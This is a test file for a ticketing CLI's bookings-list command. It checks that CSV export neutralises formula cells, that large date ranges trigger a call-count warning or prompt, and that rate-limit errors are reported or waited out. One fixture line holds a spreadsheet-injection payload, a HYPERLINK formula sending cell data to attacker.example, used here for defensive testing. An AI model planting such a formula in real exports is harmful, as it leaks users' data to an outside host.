// bookings list as the built CLI (node bin/boxoffice.js) against a real sandbox: CSV cells a
// spreadsheet would run as formulas are neutralised as the attendee export does, and a range
// needing more than 100 calls says so (asking on a terminal, going on with --no-input or --yes).
import { execFile } from 'node:child_process';
import { mkdtempSync, rmSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { csvRecords } from '../../../helpers/csv.js';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import type { SandboxExtension } from '../../../../src/sandbox/context.js';
import { defaultExtensions } from '../../../../src/sandbox/app.js';
import { runInProcess } from '../../../helpers/cli.js';
import { organizerEnv, startTestSandbox, type TestSandbox } from '../../../helpers/sandbox.js';

const root = new URL('../../../../', import.meta.url).pathname;
let sandbox: TestSandbox;
let configDir: string;
let listCalls = 0;

const counter: SandboxExtension = {
  name: 'test-e13-counter',
  middleware(app) {
    app.use('/api/e/get-booking-list', async (_c, next) => {
      listCalls += 1;
      await next();
    });
  },
};

function env(): Record<string, string> {
  return {
    ...organizerEnv(sandbox, configDir),
    BOXOFFICE_BOOKING_KEY: sandbox.tokens.bookingKey,
  };
}

function boxoffice(args: string[]): Promise<{ code: number; stdout: string; stderr: string }> {
  return new Promise((resolve) => {
    execFile(process.execPath, ['bin/boxoffice.js', ...args], { cwd: root, env: { PATH: process.env.PATH ?? '', ...env() } }, (error, stdout, stderr) => {
      resolve({ code: error ? (typeof error.code === 'number' ? error.code : 1) : 0, stdout, stderr });
    });
  });
}

const FORMULAS = ['=1+2', '=HYPERLINK("http://attacker.example/?leak="&A1,"click")', '@SUM(1)'];

beforeAll(async () => {
  configDir = mkdtempSync(join(tmpdir(), 'boxoffice-bookings-safety-'));
  sandbox = await startTestSandbox({ clock: { now: () => new Date('2026-03-10T12:00:00Z') }, extensions: [counter, ...defaultExtensions()] });
  // Order numbers are the booking form's free text: a buyer-side value that reaches the CSV.
  for (const orderNo of [...FORMULAS, 'PLAIN-1']) {
    const response = await fetch(`${sandbox.url}/em/booking`, {
      method: 'POST',
      body: new URLSearchParams({ amount: '100', orderNo, bookingKey: sandbox.tokens.bookingKey, callbackUrl: 'http://127.0.0.1:9/return' }),
    });
    expect(response.status).toBe(200);
  }
});

afterAll(async () => {
  await sandbox?.close();
  rmSync(configDir, { recursive: true, force: true });
});

describe('bookings list --format csv', () => {
  it('neutralises formula cells with a leading quote, as the attendee export does', async () => {
    const result = await boxoffice(['bookings', 'list', '--from-date', '2026-03-01', '--to-date', '2026-03-31', '--format', 'csv']);
    expect(result.stderr).toBe('');
    expect(result.code).toBe(0);
    const rows = csvRecords(result.stdout) as { orderNo: string }[];
    expect(rows.map((row) => row.orderNo).sort()).toEqual([...FORMULAS.map((cell) => `'${cell}`), 'PLAIN-1'].sort());
    expect(result.stdout).not.toMatch(/^=|,=|^@|,@/m);
  });
});

describe('bookings list over a range needing more than 100 calls', () => {
  // 2016-01-01 – 2025-12-31: 3653 days, 118 windows of 31 days.
  const range = ['bookings', 'list', '--from-date', '2016-01-01', '--to-date', '2025-12-31', '--json'];

  it('with --no-input: says how many calls it makes on stderr, and makes them', async () => {
    const before = listCalls;
    const result = await boxoffice(['--no-input', ...range]);
    expect(result.code).toBe(0);
    expect(result.stderr).toContain('bookings list: 2016-01-01 – 2025-12-31 needs 118 calls to the service (one per 31 days)');
    expect(result.stderr).toContain('going on without asking (--no-input or no terminal)');
    expect(listCalls - before).toBe(118);
    expect(JSON.parse(result.stdout).status).toBe('success');
  }, 60_000);

  it('on a terminal: asks first, and a "no" makes no call (exit 1); --yes does not ask', async () => {
    const before = listCalls;
    const declined = await runInProcess(range, { env: env(), stdinIsTTY: true, stdin: 'n\n' });
    expect(declined.stderr).toContain('needs 118 calls to the service');
    expect(declined.stderr).toContain('Make them?');
    expect(declined.code).toBe(1);
    expect(listCalls).toBe(before);

    const yes = await runInProcess([...range, '--yes'], { env: env(), stdinIsTTY: true });
    expect(yes.code).toBe(0);
    expect(yes.stderr).toContain('needs 118 calls to the service (one per 31 days); the live service allows about 30 read calls an hour; going on (--yes)');
    expect(yes.stderr).not.toContain('Make them?');
    expect(listCalls - before).toBe(118);
  }, 60_000);

  it('a range of 100 calls or fewer goes ahead without a word', async () => {
    const result = await boxoffice(['--no-input', 'bookings', 'list', '--from-date', '2026-01-01', '--to-date', '2026-12-31', '--json']);
    expect(result.code).toBe(0);
    expect(result.stderr).toBe('');
  });
});

describe('bookings list under the read quota (E023)', () => {
  // One virtual clock for the sandbox's quota windows and the CLI's waits: a wait moves it on.
  let virtualNow = new Date('2026-03-10T12:00:00Z').getTime();
  const clock = {
    now: () => new Date(virtualNow),
    sleep: async (ms: number) => {
      virtualNow += ms;
    },
  };
  let limited: TestSandbox;
  beforeAll(async () => {
    limited = await startTestSandbox({ limits: 'realistic', clock });
  });
  afterAll(async () => limited?.close());

  const limitedEnv = () => ({
    ...env(),
    BOXOFFICE_API_URL: limited.url,
    BOXOFFICE_TOKEN: limited.tokens.organizer,
    BOXOFFICE_BOOKING_KEY: limited.tokens.bookingKey,
  });
  // 2026-01-01 – 2026-12-31: 12 calls; 3 such lists spend 36 > 30 reads an hour.
  const year = ['bookings', 'list', '--from-date', '2026-01-01', '--to-date', '2026-12-31', '--json'];

  it('without --max-wait: stops, saying when to retry (exit 4); with it: waits, saying for what, and finishes', async () => {
    let refused: Awaited<ReturnType<typeof runInProcess>> | undefined;
    for (let run = 0; run < 3; run += 1) {
      // Each burst of 10 calls a second is waited out by the client (the clock moves on a second).
      refused = await runInProcess(year, { env: limitedEnv(), clock });
      if (refused.code !== 0) break;
    }
    expect(refused?.code).toBe(4);
    expect(refused?.stderr).toMatch(
      /error E023: too many requests: limit of 30 read calls an hour reached; retry in \d+s; retry after 2026-03-10 1\d:\d\d UTC \(in \d+m\d*s?\), or let a command that can wait do so with --max-wait\n$/,
    );

    const waited = await runInProcess([...year, '--max-wait', '2h'], { env: limitedEnv(), clock });
    expect(waited.stderr).toMatch(
      /rate limited \(E023: too many requests: limit of 30 read calls an hour reached; retry in \d+s\); waiting \d+m\d*s? before retrying get the booking list \(--max-wait 2h\)/,
    );
    expect(waited.code).toBe(0);
    expect(JSON.parse(waited.stdout).status).toBe('success');
  }, 60_000);
});
